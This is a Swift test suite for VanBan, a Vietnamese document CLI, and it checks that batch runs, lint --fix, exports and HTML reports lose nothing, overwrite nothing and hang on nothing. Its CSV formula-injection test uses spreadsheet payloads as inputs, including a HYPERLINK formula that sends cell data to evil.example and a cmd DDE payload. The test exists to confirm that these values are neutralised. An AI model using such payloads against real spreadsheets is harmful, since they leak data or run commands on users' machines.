import Foundation
import Testing
@testable import VanBan

/// Issue 13: lose nothing, overwrite nothing, hang on nothing. Each test reproduces one
/// finding of the adversarial pass through the CLI, as a user would meet it.
@Suite("Hardening")
struct HardeningTests {
    static let smallDocument = "CHƯƠNG TRÌNH CÔNG TÁC\nnăm 2026\n1. Tháng 01/2026\n- Họp Ban Thường vụ (Văn phòng chuẩn bị).\n"

    static func rows(_ out: URL) throws -> [[String: Any]] {
        let object = try JSONSerialization.jsonObject(with: Data(contentsOf: out.appendingPathComponent("summary.json"))) as! [String: Any]
        return object["files"] as! [[String: Any]]
    }

    // MARK: 1. Time

    /// The 200k-line file of the layout test, in a batch: converted (with no limit); and
    /// with a limit it cannot meet, given up as failed while the small file beside it is
    /// converted.
    @Test func batchTimeoutGivesUpOneFileAndGoesOn() throws {
        let dir = try Support.temporaryDirectory("timeout")
        defer { try? FileManager.default.removeItem(at: dir) }
        let input = dir.appendingPathComponent("in")
        try FileManager.default.createDirectory(at: input, withIntermediateDirectories: true)
        try Data(String(repeating: "Văn phòng Đảng ủy\n", count: 200_000).utf8).write(to: input.appendingPathComponent("lon.txt"))
        try Data(Self.smallDocument.utf8).write(to: input.appendingPathComponent("nho.txt"))

        let started = Date()
        let out = dir.appendingPathComponent("out")
        let (code, _, err) = try Support.run(Support.binary, ["batch", input.path, "--out", out.path, "--timeout", "3", "--lang", "en"])
        let seconds = Date().timeIntervalSince(started)
        #expect(code == 2, "\(err)")
        let rows = try Self.rows(out)
        let byName = Dictionary(uniqueKeysWithValues: rows.map { (URL(fileURLWithPath: $0["path"] as! String).lastPathComponent, $0) })
        #expect(byName["lon.txt"]?["reasonCode"] as? String == "timeout")
        #expect(byName["nho.txt"]?["status"] as? String == "ok")
        #expect(err.contains("lon.txt: took longer than the 3 s limit"))
        #expect(seconds < 60, "\(seconds) s")

        // Without a limit the same batch converts both (the debug build under a full test run can
        // take longer than the default 60 s on the big file; the release build takes about 5 s).
        let all = dir.appendingPathComponent("all")
        let (code2, _, err2) = try Support.run(Support.binary, ["batch", input.path, "--out", all.path, "--jobs", "2", "--timeout", "0"])
        #expect([0, 1].contains(code2), "\(err2)")
        #expect(try Self.rows(all).allSatisfy { $0["status"] as? String == "ok" })

        let (bad, _, badErr) = try Support.run(Support.binary, ["batch", input.path, "--out", all.path, "--timeout", "soon", "--lang", "en"])
        #expect(bad == 2 && badErr.contains("--timeout takes a number of seconds"))
    }

    /// Twenty thousand wrapped lines of "a" are one paragraph: its repeated words are
    /// reported 20 times, not once per physical line (10 million lines gave 5 million
    /// findings and 7 GB).
    @Test func findingsAreCappedPerLogicalLine() {
        let result = VanBan.process(text: String(repeating: "a\r", count: 20_000), name: "a.txt")
        #expect(result.layout.lines.count == 1)
        let repeated = Linter.lint(result).filter { $0.ruleID == "repeated-word" }
        #expect(repeated.count == Linter.maxPerRuleAndLine, "\(repeated.count)")
    }

    // MARK: 2. CSV formula injection

    /// Runs `vanban arguments…` in `directory` (for relative file names that start with `=`).
    static func run(in directory: URL, _ arguments: [String]) throws -> (Int32, String) {
        let process = Process()
        process.executableURL = Support.binary
        process.arguments = arguments
        process.currentDirectoryURL = directory
        let err = Pipe()
        process.standardError = err
        process.standardOutput = FileHandle.nullDevice
        try process.run()
        let e = err.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return (process.terminationStatus, String(decoding: e, as: UTF8.self))
    }

    /// Every cell of the CSV at `path` as Excel would see it: read with Python's csv module
    /// (utf-8-sig, as Excel strips the mark); a cell starting with = + - @ TAB or CR would be a formula.
    static func formulaCells(_ path: String) throws -> (rows: [[String]], formulas: [String]) {
        let rows = try ExportTests.pythonRows(path)
        let formulas = rows.flatMap { $0 }.filter { cell in
            guard let first = cell.unicodeScalars.first else { return false }
            return ["=", "+", "-", "@", "\t", "\r"].contains(first)
        }
        return (rows, formulas)
    }

    static let formulaDocument = """
        CHƯƠNG TRÌNH CÔNG TÁC
        năm 2026
        1. Tháng 01/2026
        - =HYPERLINK("http://evil.example/?x="&A1) (Văn phòng chuẩn bị).
        - +cmd|' /C calc'!A0 (@Ban Tổ chức chủ trì chuẩn bị).
        - -2+3 cuộc họp
        - @SUM(1) hội nghị

        """

    @Test func noCSVCellIsAFormula() throws {
        let dir = try Support.temporaryDirectory("csv-injection")
        defer { try? FileManager.default.removeItem(at: dir) }
        let name = "=HYPERLINK(\"\\\\host\\share\").txt"
        try Data(Self.formulaDocument.utf8).write(to: dir.appendingPathComponent(name))
        try Data(Self.formulaDocument.utf8).write(to: dir.appendingPathComponent("@SUM(A1).txt"))

        let (code, err) = try Self.run(in: dir, ["export", name, "@SUM(A1).txt", "--csv", "lich.csv"])
        #expect(code == 0, "\(err)")
        let export = try Self.formulaCells(dir.appendingPathComponent("lich.csv").path)
        #expect(export.formulas.isEmpty, "\(export.formulas)")
        // The text is all there, behind the quote mark.
        #expect(export.rows.contains { $0[0] == "'" + name && $0[7].hasPrefix("'=HYPERLINK(\"http://evil.example/") })
        #expect(export.rows.contains { $0[7] == "'-2+3 cuộc họp" })

        let (code2, err2) = try Self.run(in: dir, ["batch", name, "@SUM(A1).txt", "--out", "out"])
        #expect([0, 1].contains(code2), "\(err2)")
        let summary = try Self.formulaCells(dir.appendingPathComponent("out/summary.csv").path)
        #expect(summary.rows.count == 3)
        #expect(summary.formulas.isEmpty, "\(summary.formulas)")
        #expect(summary.rows.contains { $0[0] == "'" + name })
    }

    // MARK: 3. Batch never overwrites what it did not write

    static func write(_ text: String, _ url: URL) throws {
        try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
        try Data(text.utf8).write(to: url)
    }

    @Test func batchRefusesAnOutputFolderThatIsOrHoldsInput() throws {
        let dir = try Support.temporaryDirectory("batch-out")
        defer { try? FileManager.default.removeItem(at: dir) }
        let input = dir.appendingPathComponent("in")
        try Self.write(Self.smallDocument, input.appendingPathComponent("a.txt"))
        try Self.write("của tôi", input.appendingPathComponent("a.json"))
        try Self.write("của tôi", input.appendingPathComponent("index.html"))
        try Self.write("của tôi", input.appendingPathComponent("summary.csv"))
        for (out, words) in [(input.path, "is the input folder"), (input.path + "/", "is the input folder"),
                             (input.appendingPathComponent("ket-qua").path, "lies inside the input folder"),
                             (dir.path, "holds the input")] {
            let (code, _, err) = try Support.run(Support.binary, ["batch", input.path, "--out", out, "--lang", "en"])
            #expect(code == 2 && err.contains(words), "\(out): \(err)")
        }
        for name in ["a.json", "index.html", "summary.csv"] {
            #expect(try String(contentsOf: input.appendingPathComponent(name), encoding: .utf8) == "của tôi", "\(name) replaced")
        }
        #expect(!FileManager.default.fileExists(atPath: input.appendingPathComponent("ket-qua").path))
    }

    @Test func batchRefusesAFolderWithFilesItDidNotMakeUnlessForced() throws {
        let dir = try Support.temporaryDirectory("batch-foreign")
        defer { try? FileManager.default.removeItem(at: dir) }
        let input = dir.appendingPathComponent("in")
        try Self.write(Self.smallDocument, input.appendingPathComponent("a.txt"))
        let out = dir.appendingPathComponent("out")
        try Self.write("của tôi", out.appendingPathComponent("a.json"))
        let (code, _, err) = try Support.run(Support.binary, ["batch", input.path, "--out", out.path, "--lang", "en"])
        #expect(code == 2 && err.contains("holds files vanban did not make (a.json)") && err.contains("--force"), "\(err)")
        #expect(try String(contentsOf: out.appendingPathComponent("a.json"), encoding: .utf8) == "của tôi")
        #expect(!FileManager.default.fileExists(atPath: out.appendingPathComponent("summary.json").path))
        // With --force the user accepts it; afterwards the folder is vanban's and runs again without --force.
        let (forced, _, forcedErr) = try Support.run(Support.binary, ["batch", input.path, "--out", out.path, "--force"])
        #expect([0, 1].contains(forced), "\(forcedErr)")
        let (again, _, againErr) = try Support.run(Support.binary, ["batch", input.path, "--out", out.path, "--html"])
        #expect([0, 1].contains(again), "\(againErr)")
        let manifest = try JSONSerialization.jsonObject(with: Data(contentsOf: out.appendingPathComponent(".vanban-manifest.json"))) as! [String: Any]
        #expect(Set(manifest["files"] as! [String]).isSuperset(of: ["a.json", "a.html", "summary.json", "summary.csv", "index.html"]))
    }

    /// Inputs named like the batch's own files keep their outputs, and --resume does not redo them.
    @Test func inputsNamedSummaryOrIndexDoNotCollide() throws {
        let dir = try Support.temporaryDirectory("batch-names")
        defer { try? FileManager.default.removeItem(at: dir) }
        let input = dir.appendingPathComponent("in")
        for name in ["summary.txt", "index.txt", "SUMMARY.TXT", "sub/index.txt"] {
            try Self.write(Self.smallDocument, input.appendingPathComponent(name))
        }
        let out = dir.appendingPathComponent("out")
        let (code, _, err) = try Support.run(Support.binary, ["batch", input.path, "--out", out.path, "--html"])
        #expect([0, 1].contains(code), "\(err)")
        let rows = try Self.rows(out)
        #expect(rows.count == 4)
        let outputs = Set(rows.compactMap { $0["output"] as? String })
        #expect(outputs.count == 4)
        #expect(outputs.allSatisfy { !BatchInputs.isReserved($0) }, "\(outputs)")
        for output in outputs {
            let json = try JSONSerialization.jsonObject(with: Data(contentsOf: out.appendingPathComponent(output))) as! [String: Any]
            #expect(json["record"] != nil, "\(output) is not a document's output")
        }
        #expect(try String(contentsOf: out.appendingPathComponent("index.html"), encoding: .utf8).contains("summary.txt"))
        let (code2, _, err2) = try Support.run(Support.binary, ["batch", input.path, "--out", out.path, "--html", "--resume"])
        #expect([0, 1].contains(code2), "\(err2)")
        #expect(try Self.rows(out).allSatisfy { $0["resumed"] as? Bool == true })
    }

    /// A second batch into a folder another batch holds is refused (the lock is an flock on
    /// OUT/.vanban.lock, taken here by the test itself).
    @Test func twoBatchesCannotShareAnOutputFolder() throws {
        let dir = try Support.temporaryDirectory("batch-lock")
        defer { try? FileManager.default.removeItem(at: dir) }
        let input = dir.appendingPathComponent("in")
        try Self.write(Self.smallDocument, input.appendingPathComponent("a.txt"))
        let out = dir.appendingPathComponent("out")
        let (first, _, firstErr) = try Support.run(Support.binary, ["batch", input.path, "--out", out.path])
        #expect([0, 1].contains(first), "\(firstErr)")
        let fd = open(out.appendingPathComponent(".vanban.lock").path, O_RDWR | O_CREAT, 0o644)
        #expect(fd >= 0 && flock(fd, LOCK_EX | LOCK_NB) == 0)
        let (code, _, err) = try Support.run(Support.binary, ["batch", input.path, "--out", out.path, "--lang", "en"])
        close(fd)
        #expect(code == 2 && err.contains("another batch is writing into this folder"), "\(err)")
        let (after, _, afterErr) = try Support.run(Support.binary, ["batch", input.path, "--out", out.path])
        #expect([0, 1].contains(after), "\(afterErr)")
    }

    /// --resume looks at the bytes: a file changed with its old modification time kept is redone.
    @Test func resumeComparesContentNotTimes() throws {
        let dir = try Support.temporaryDirectory("batch-resume-hash")
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("in/a.txt")
        try Self.write(Self.smallDocument, file)
        let out = dir.appendingPathComponent("out")
        _ = try Support.run(Support.binary, ["batch", file.deletingLastPathComponent().path, "--out", out.path])
        let past = Date(timeIntervalSinceNow: -86_400)
        try Self.write(Self.smallDocument + "2. Tháng 02/2026\n- Họp Ban Chấp hành (Văn phòng chuẩn bị).\n", file)
        try FileManager.default.setAttributes([.modificationDate: past], ofItemAtPath: file.path)
        _ = try Support.run(Support.binary, ["batch", file.deletingLastPathComponent().path, "--out", out.path, "--resume"])
        let row = try Self.rows(out)[0]
        #expect(row["resumed"] as? Bool == false)
        #expect(row["monthlyPlans"] as? Int == 2)
        // Unchanged bytes with a new time: taken from the earlier output.
        try FileManager.default.setAttributes([.modificationDate: Date()], ofItemAtPath: file.path)
        _ = try Support.run(Support.binary, ["batch", file.deletingLastPathComponent().path, "--out", out.path, "--resume"])
        #expect(try Self.rows(out)[0]["resumed"] as? Bool == true)
    }

    // MARK: 4, 5. lint --fix

    static let fixable = programme("I. A\n- Triền khai ( Văn phòng chuẩn bị) , Đảng ủy.")

    @Test func fixNeverRemovesAFolderOrAnEarlierBackup() throws {
        let dir = try Support.temporaryDirectory("fix-backup")
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("du-thao.txt")
        try Self.write(Self.fixable, file)
        try Self.write("giữ lại", dir.appendingPathComponent("du-thao.txt.orig/quan-trong.txt"))
        try Self.write("bản sao lưu cũ", dir.appendingPathComponent("du-thao.txt.orig.1"))
        let (code, _, err) = try Support.run(Support.binary, ["lint", file.path, "--fix"])
        #expect(code == 0, "\(err)")
        #expect(try String(contentsOf: dir.appendingPathComponent("du-thao.txt.orig/quan-trong.txt"), encoding: .utf8) == "giữ lại")
        #expect(try String(contentsOf: dir.appendingPathComponent("du-thao.txt.orig.1"), encoding: .utf8) == "bản sao lưu cũ")
        #expect(try String(contentsOf: dir.appendingPathComponent("du-thao.txt.orig.2"), encoding: .utf8) == Self.fixable)
        #expect(err.contains("du-thao.txt.orig.2"))
        #expect(try String(contentsOf: file, encoding: .utf8) != Self.fixable)
    }

    @Test func fixKeepsModeOwnerAndLinks() throws {
        let dir = try Support.temporaryDirectory("fix-attributes")
        defer { try? FileManager.default.removeItem(at: dir) }
        let manager = FileManager.default
        // A confidential draft: mode 600 (and, when the tests run as root, another owner).
        let file = dir.appendingPathComponent("mat.txt")
        try Self.write(Self.fixable, file)
        try manager.setAttributes([.posixPermissions: 0o600], ofItemAtPath: file.path)
        let root = getuid() == 0
        if root { #expect(chown(file.path, 4321, 4321) == 0) }
        let (code, _, err) = try Support.run(Support.binary, ["lint", file.path, "--fix"])
        #expect(code == 0, "\(err)")
        var info = stat()
        #expect(stat(file.path, &info) == 0)
        #expect(info.st_mode & 0o777 == 0o600)
        if root { #expect(info.st_uid == 4321 && info.st_gid == 4321) }
        #expect(stat(file.path + ".orig", &info) == 0 && info.st_mode & 0o077 == 0, "the backup is readable by others")
        #expect(try String(contentsOf: file, encoding: .utf8) != Self.fixable)

        // A link: the file it points to is fixed, the link stays a link.
        let target = dir.appendingPathComponent("that/draft.txt")
        try Self.write(Self.fixable, target)
        let link = dir.appendingPathComponent("link.txt")
        try manager.createSymbolicLink(atPath: link.path, withDestinationPath: "that/draft.txt")
        let (code2, _, err2) = try Support.run(Support.binary, ["lint", link.path, "--fix"])
        #expect(code2 == 0, "\(err2)")
        #expect(try manager.destinationOfSymbolicLink(atPath: link.path) == "that/draft.txt")
        #expect(try String(contentsOf: target, encoding: .utf8) != Self.fixable)
        #expect(try String(contentsOf: URL(fileURLWithPath: target.path + ".orig"), encoding: .utf8) == Self.fixable)
    }

    @Test func fixRefusesAWriteProtectedFile() throws {
        let dir = try Support.temporaryDirectory("fix-readonly")
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("chi-doc.txt")
        try Self.write(Self.fixable, file)
        try FileManager.default.setAttributes([.posixPermissions: 0o444], ofItemAtPath: file.path)
        let (code, _, err) = try Support.run(Support.binary, ["lint", file.path, "--fix", "--lang", "en"])
        #expect(code == 2 && err.contains("you may not write the file"), "\(err)")
        #expect(try String(contentsOf: file, encoding: .utf8) == Self.fixable)
        #expect(!FileManager.default.fileExists(atPath: file.path + ".orig"))
    }

    // MARK: 6, 7. Markers and configuration

    @Test func anUnknownIDInAMarkerIsReportedAndSilencesNothing() {
        let text = programme("I. A\n- Triền khai ( Văn phòng chuẩn bị). vanban-ignore: sesion-sequence\n"
            + "- Triền khai ( Ban chuẩn bị). vanban-ignore: spacing, mispeling")
        let lines = text.components(separatedBy: "\n")
        let first = lines.firstIndex { $0.contains("sesion-sequence") }! + 1
        let diagnostics = Linter.lint(VanBan.process(text: text, name: "t.txt"))
        let on = { (line: Int) in Set(diagnostics.filter { $0.span.start.line == line }.map(\.ruleID)) }
        #expect(on(first).isSuperset(of: ["misspelling", "spacing", "unknown-ignore-id"]), "\(on(first))")
        #expect(on(first + 1).isSuperset(of: ["misspelling", "unknown-ignore-id"]) && !on(first + 1).contains("spacing"), "\(on(first + 1))")
        let typo = diagnostics.first { $0.ruleID == "unknown-ignore-id" }!
        #expect(typo.span.start.column == lines[first - 1].unicodeScalars.count - "sesion-sequence".count + 1)
        #expect(typo.message(.en).contains("'sesion-sequence'"))
    }

    @Test func theConfigurationInForceIsNamed() throws {
        let dir = try Support.temporaryDirectory("show-config")
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("a/b/x.txt")
        try Self.write(Self.fixable, file)
        let config = dir.appendingPathComponent(".vanban.json")
        try Self.write(#"{"rules": {"spacing": "off", "misspelling": "error"}}"#, config)
        let (code, out, err) = try Support.run(Support.binary, ["lint", "--show-config", file.path, "--lang", "en"])
        #expect(code == 0, "\(err)")
        #expect(out.hasPrefix("Configuration: \(config.path)"))
        #expect(out.contains("spacing") && out.split(separator: "\n").contains { $0.hasPrefix("spacing ") && $0.contains("off") && $0.contains("default: info") })
        #expect(out.split(separator: "\n").count == Linter.rules.count + 1)
        let (_, text, _) = try Support.run(Support.binary, ["lint", file.path, "--lang", "en"])
        #expect(text.split(separator: "\n").last?.contains("(configuration: \(config.path))") == true, "\(text)")
        let (_, none, _) = try Support.run(Support.binary, ["lint", "--show-config", "--no-config", file.path, "--lang", "en"])
        #expect(none.hasPrefix("Configuration: defaults (--no-config)"))
        let (_, plain, _) = try Support.run(Support.binary, ["lint", file.path, "--no-config", "--lang", "en"])
        #expect(!plain.contains("configuration:"))
    }

    // MARK: 8. What batch skips, and names that are not UTF-8

    @Test func batchListsEverySkippedEntryAndReadsAnyName() throws {
        let dir = try Support.temporaryDirectory("batch-skipped")
        defer { try? FileManager.default.removeItem(at: dir) }
        let input = dir.appendingPathComponent("in")
        let manager = FileManager.default
        try Self.write(Self.smallDocument, input.appendingPathComponent("sub/a.txt"))
        try Self.write("x", input.appendingPathComponent(".an/b.txt"))
        try Self.write("x", input.appendingPathComponent("ghi-chu.md"))
        try manager.createSymbolicLink(atPath: input.appendingPathComponent("lien-ket.txt").path, withDestinationPath: "sub/a.txt")
        try manager.createSymbolicLink(atPath: input.appendingPathComponent("thu-muc").path, withDestinationPath: "sub")
        try manager.createSymbolicLink(atPath: input.appendingPathComponent("hong.txt").path, withDestinationPath: "khong-co")
        #expect(mkfifo(input.appendingPathComponent("ong.txt").path, 0o644) == 0)
        // b<0xE0>i.txt: a Windows-1258 name, not UTF-8.
        let raw: [UInt8] = Array(input.path.utf8) + Array("/b".utf8) + [0xE0] + Array("i.txt".utf8)
        let fd = (raw + [0]).withUnsafeBufferPointer { p in p.withMemoryRebound(to: CChar.self) { open($0.baseAddress!, O_WRONLY | O_CREAT, 0o644) } }
        #expect(fd >= 0)
        _ = Array(Self.smallDocument.utf8).withUnsafeBytes { Foundation.write(fd, $0.baseAddress, $0.count) }
        close(fd)

        let out = dir.appendingPathComponent("out")
        let (code, _, err) = try Support.run(Support.binary, ["batch", input.path, "--out", out.path, "--lang", "en"])
        #expect([0, 1].contains(code), "\(err)")
        let summary = try JSONSerialization.jsonObject(with: Data(contentsOf: out.appendingPathComponent("summary.json"))) as! [String: Any]
        let files = (summary["files"] as! [[String: Any]]).map { URL(fileURLWithPath: $0["path"] as! String).lastPathComponent }
        #expect(Set(files) == ["a.txt", "lien-ket.txt", "b\\xE0i.txt"], "\(files)")
        #expect((summary["files"] as! [[String: Any]]).allSatisfy { $0["status"] as? String == "ok" })
        let skipped = Dictionary(uniqueKeysWithValues: (summary["skipped"] as! [[String: Any]]).map {
            (URL(fileURLWithPath: $0["path"] as! String).lastPathComponent, $0["reasonCode"] as! String)
        })
        #expect(skipped == [".an": "hidden", "ghi-chu.md": "pattern", "thu-muc": "symlinkedFolder", "hong.txt": "brokenLink", "ong.txt": "special"],
                "\(skipped)")
        let csv = try ExportTests.pythonRows(out.appendingPathComponent("summary.csv").path)
        #expect(csv.filter { $0[1] == "skipped" }.count == 5)
        #expect(err.contains("5 entries skipped"))

        // lint reads the same file by its bytes and names it escaped.
        let (lintCode, lintOut) = try Self.runRaw(["lint".utf8.map { $0 }, raw, Array("--lang".utf8), Array("en".utf8)])
        #expect(lintCode == 0, "\(lintOut)")
        #expect(lintOut.contains("b\\xE0i.txt:"), "\(lintOut)")
    }

    /// Runs vanban with arguments given as bytes (Process takes only Strings); stdout + stderr.
    static func runRaw(_ arguments: [[UInt8]]) throws -> (Int32, String) {
        let dir = try Support.temporaryDirectory("raw")
        defer { try? FileManager.default.removeItem(at: dir) }
        let output = dir.appendingPathComponent("out").path
        let argv = ([Array(Support.binary.path.utf8)] + arguments).map { bytes in
            (bytes + [0]).withUnsafeBufferPointer { p in p.withMemoryRebound(to: CChar.self) { strdup($0.baseAddress!) } }
        } + [nil]
        defer { for p in argv { free(p) } }
        var actions = posix_spawn_file_actions_t()
        posix_spawn_file_actions_init(&actions)
        defer { posix_spawn_file_actions_destroy(&actions) }
        posix_spawn_file_actions_addopen(&actions, 1, output, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
        posix_spawn_file_actions_adddup2(&actions, 1, 2)
        var pid: pid_t = 0
        guard posix_spawn(&pid, Support.binary.path, &actions, nil, argv, environ) == 0 else { return (-1, "spawn failed") }
        var status: Int32 = 0
        waitpid(pid, &status, 0)
        return ((status >> 8) & 0xFF, (try? String(contentsOfFile: output, encoding: .utf8)) ?? "")
    }

    // MARK: 9. UTF-16 without a byte-order mark

    static func utf16(_ text: String, bigEndian: Bool) -> [UInt8] {
        text.utf16.flatMap { unit -> [UInt8] in
            let pair = [UInt8(unit & 0xFF), UInt8(unit >> 8)]
            return bigEndian ? pair.reversed() : pair
        }
    }

    /// The encoding of `record`'s source and of each attachment's, depth first.
    static func encodings(_ record: DocumentRecord) -> [TextEncoding] {
        [record.source.encoding] + record.attachments.flatMap { encodings($0) }
    }

    /// `record` with every `source.encoding` (its own and its attachments') set to `encoding`.
    static func withEncoding(_ encoding: TextEncoding, _ record: DocumentRecord) -> DocumentRecord {
        var r = record
        r.source.encoding = encoding
        r.attachments = r.attachments.map { withEncoding(encoding, $0) }
        return r
    }

    @Test func utf16WithoutAByteOrderMarkIsRead() throws {
        for file in Support.corpusFiles {
            let text = try String(contentsOf: Support.corpus.appendingPathComponent(file), encoding: .utf8)
            let utf8 = try VanBan.process(Array(text.utf8), name: file)
            for bigEndian in [false, true] {
                let bytes = Self.utf16(text, bigEndian: bigEndian)
                let result = try VanBan.process(bytes, name: file)
                #expect(result.record.source.encoding == (bigEndian ? .utf16be : .utf16le), "\(file)")
                // The records differ in exactly one field: the encoding each `source`
                // reports, the top-level record's and every attachment's (an attachment
                // is read from the same UTF-16 bytes, so it rightly says so too).
                #expect(Self.encodings(result.record).allSatisfy { $0 == (bigEndian ? .utf16be : .utf16le) }, "\(file)")
                #expect(Self.withEncoding(.utf8, result.record) == utf8.record, "\(file), big-endian: \(bigEndian)")
                let forced = try VanBan.process(bytes, name: file, options: .init(encoding: bigEndian ? .utf16be : .utf16le))
                #expect(forced.record.meetings == utf8.record.meetings)
                #expect(try VanBan.process(bytes, name: file, options: .init(encoding: .utf16)).record.source.encoding
                        == (bigEndian ? .utf16be : .utf16le))
            }
        }
        // Through the CLI, with the option names.
        let dir = try Support.temporaryDirectory("utf16")
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("le.txt")
        try Data(Self.utf16(Self.smallDocument, bigEndian: false)).write(to: file)
        for args in [[String](), ["--encoding", "utf-16le"], ["--encoding", "utf-16"]] {
            let (code, out, err) = try Support.run(Support.binary, ["parse", file.path] + args)
            #expect(code == 0 && out.contains("\"encoding\" : \"utf-16le\"") && out.contains("Họp Ban Thường vụ"), "\(args): \(err)")
        }
        // Binary data with zero bytes everywhere is still binary.
        var random = SeededRandom(seed: 3)
        let noise = (0..<4096).map { k in k % 3 == 0 ? UInt8(0) : UInt8.random(in: 0...255, using: &random) }
        #expect(throws: InputError.self) { try VanBan.process(noise, name: "noise.bin") }
    }

    // MARK: 10. Smaller items

    @Test func lintOfOnlyAMissingFilePrintsNoSummary() throws {
        let (code, out, err) = try Support.run(Support.binary, ["lint", "/nonexistent/khong-co.txt"])
        #expect(code == 2 && out.isEmpty, "stdout: \(out)")
        #expect(err.contains("khong-co.txt: không tìm thấy tệp"))
    }

    @Test func systemErrorsAreInTheUsersLanguage() throws {
        let dir = try Support.temporaryDirectory("system-errors")
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("a.txt")
        try Self.write(Self.fixable, file)
        let target = "/nonexistent-vanban/x.txt"
        for (command, words) in [(["lint", file.path, "--fix", "--output", target], "không có tệp hoặc thư mục này"),
                                 (["normalize", file.path, "--output", target], "không có tệp hoặc thư mục này"),
                                 (["export", file.path, "--csv", target], "không có tệp hoặc thư mục này")] {
            let (code, _, err) = try Support.run(Support.binary, command + ["--lang", "vi"])
            #expect(code == 2 && err.contains(words), "\(command): \(err)")
            #expect(!err.contains("NSCocoaErrorDomain") && !err.contains("couldn") && !err.contains("The file"), "\(err)")
        }
        #expect(SystemError(CocoaError(.fileWriteOutOfSpace)).message(.vi) == "hết chỗ trên đĩa")
        #expect(SystemError(NSError(domain: NSPOSIXErrorDomain, code: Int(EACCES))).message(.en) == "permission denied")
    }

    @Test func standardInputHasOneName() throws {
        let data = Data(Self.fixable.utf8)
        var names: [String: String] = [:]
        for format in ["text", "json", "sarif", "html"] {
            let (_, out, _) = try Support.run(Support.binary, ["lint", "-", "--format", format, "--no-config"], stdin: data)
            names[format] = out
        }
        #expect(names["text"]!.hasPrefix("stdin:"), "\(names["text"]!.prefix(80))")
        #expect(names["json"]!.contains("\"file\" : \"stdin\""))
        #expect(names["sarif"]!.contains("\"uri\" : \"stdin\""))
        #expect(names["html"]!.contains("<span class=\"file\">stdin</span>"))
        #expect(!names.values.contains { $0.contains("\"-\"") || $0.hasPrefix("-:") })
        let (_, parsed, _) = try Support.run(Support.binary, ["parse", "-"], stdin: data)
        #expect(parsed.contains("\"name\" : \"stdin\""))
    }

    /// Every HTML page carries a Content-Security-Policy whose hashes are those of its own
    /// inline style and script (checked with Python's hashlib, not with VanBan's SHA-256).
    @Test func everyHTMLPageHasAContentSecurityPolicy() throws {
        let dir = try Support.temporaryDirectory("csp")
        defer { try? FileManager.default.removeItem(at: dir) }
        let out = dir.appendingPathComponent("out")
        let first = Support.corpus.appendingPathComponent(Support.corpusFiles[0]).path
        let (code, _, err) = try Support.run(Support.binary, ["batch", first, "--out", out.path, "--html"])
        #expect([0, 1].contains(code), "\(err)")
        let pages = try FileManager.default.contentsOfDirectory(atPath: out.path).filter { $0.hasSuffix(".html") }.map { out.appendingPathComponent($0).path }
        #expect(pages.count == 2)
        let check = """
            import re,sys,hashlib,base64
            for path in sys.argv[1:]:
                page = open(path, encoding='utf-8').read()
                csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', page).group(1)
                assert "default-src 'none'" in csp, path
                blocks = re.findall(r'<style>(.*?)</style>', page, re.S) + re.findall(r'<script>(.*?)</script>', page, re.S)
                assert len(blocks) == 2, path
                for b in blocks:
                    h = "'sha256-" + base64.b64encode(hashlib.sha256(b.encode()).digest()).decode() + "'"
                    assert h in csp, (path, h)
                assert 'unsafe-inline' not in csp
            print("ok")
            """
        let (pyCode, pyOut, pyErr) = try Support.run(URL(fileURLWithPath: "/usr/bin/env"), ["python3", "-c", check] + pages)
        #expect(pyCode == 0 && pyOut.contains("ok"), "\(pyErr)")
        #expect(SHA256.hex(Array("abc".utf8)) == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad")
        #expect(SHA256.hex([]) == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")
    }

    /// 200,000 blank lines in a document: the page grows with the text, not with the line breaks.
    @Test func aBlankLineFloodGivesASmallPage() throws {
        let text = Self.smallDocument + String(repeating: "\n", count: 200_000) + "- Họp cuối năm (Văn phòng chuẩn bị).\n"
        let result = VanBan.process(text: text, name: "trong.txt")
        let page = HTMLReport.render(result, diagnostics: Linter.lint(result), language: .vi)
        #expect(page.utf8.count < 200_000, "\(page.utf8.count) bytes")
        #expect(page.contains("200000 dòng trống") || page.contains("199999 dòng trống") || page.contains("dòng trống, dòng 5–"))
        #expect(page.contains("id=\"L200005\""))
    }

    /// Nothing in the repository the build, the tests or a reader does not need (STYLE.md 10).
    @Test func noStrayArchivesAtTheRoot() throws {
        let names = try FileManager.default.contentsOfDirectory(atPath: Support.root.path)
        let stray = names.filter { [".whl", ".zip", ".tar.gz", ".tgz", ".egg"].contains(where: $0.hasSuffix) }
        #expect(stray.isEmpty, "\(stray)")
    }
}
